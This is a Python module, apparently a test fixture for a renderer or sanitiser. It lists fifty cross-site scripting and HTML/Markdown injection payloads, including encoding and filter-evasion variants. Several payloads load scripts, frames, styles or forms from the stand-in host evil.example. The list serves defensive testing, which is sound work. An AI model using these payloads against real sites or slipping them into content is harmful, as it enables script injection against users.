"""Fifty ways in which words could become a script, a link or an element of a page that shows them without care.

Each that would run calls `hit`, and each that would ask for something asks evil.example.
"""

from __future__ import annotations

PAYLOADS = (
    # Elements that run.
    "<script>hit(1)</script>",
    "</p></div><script>hit(2)</script>",
    "<ScRiPt src=//evil.example/3.js></sCrIpT>",
    "<scr<script>ipt>hit(4)</scr</script>ipt>",
    "<script type=module>import('https://evil.example/5.js')</script>",
    "<svg><script>hit(6)</script></svg>",
    "<template><script>hit(7)</script></template>",
    # Events.
    "<img src=x onerror=hit(8)>",
    '"><img src=x onerror="hit(9)">',
    "'><img src=x onerror='hit(10)'>",
    "<svg onload=hit(11)>",
    "<svg/onload=hit(12)//",
    "<body onpageshow=hit(13)>",
    "<details open ontoggle=hit(14)><summary>x</summary></details>",
    "<input autofocus onfocus=hit(15)>",
    "<video><source onerror=hit(16)></video>",
    "<audio src=x onerror=hit(17)></audio>",
    "<marquee onstart=hit(18)>x</marquee>",
    "<div style='animation:x 1s' onanimationstart=hit(19)>x</div>",
    "' onmouseover='hit(20)' x='",
    '" onmouseover="hit(21)" autofocus onfocus="hit(21)" x="',
    "` onmouseover=hit(22) `",
    # Frames and objects.
    "<iframe src='javascript:parent.hit(23)'></iframe>",
    "<iframe srcdoc='<script>parent.hit(24)</script>'></iframe>",
    "<iframe src=https://evil.example/25></iframe>",
    "<object data='javascript:hit(26)'></object>",
    "<embed src=https://evil.example/27>",
    # Links and forms.
    "<a href='javascript:hit(28)'>press</a>",
    "<a href='java&#10;script:hit(29)'>press</a>",
    "<form action=https://evil.example/30><button>press</button></form>",
    "<base href=https://evil.example/31/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/32'>",
    "<link rel=stylesheet href=https://evil.example/33.css>",
    # Marks of Markdown and the like.
    "[press](javascript:hit(34))",
    "![x](https://evil.example/35.png)",
    "[x]: javascript:hit(36) 'x'",
    "<javascript:hit(37)>",
    "```html\n<script>hit(38)</script>\n```",
    "$$\\href{javascript:hit(39)}{x}$$",
    # Entities, and tags that are written in other ways.
    "&lt;script&gt;hit(40)&lt;/script&gt;",
    "&#60;img src=x onerror=hit(41)&#62;",
    "%3Cscript%3Ehit(42)%3C/script%3E",
    "\\u003cscript\\u003ehit(43)\\u003c/script\\u003e",
    "\uff1cscript\uff1ehit(44)\uff1c/script\uff1e",
    # Templates.
    "{{constructor.constructor('hit(45)')()}}",
    "${hit(46)}",
    "<%= hit(47) %>{% hit(47) %}",
    # Style.
    "<style>@import 'https://evil.example/48.css';</style>",
    "<div style=\"background:url('https://evil.example/49.png')\">x</div>",
    # What turns the direction of writing, so that a tag is hidden in it.
    "\u202e>)05(tih=rorreno x=crs gmi<\u202c <img src=x onerror=hit(50)>",
)
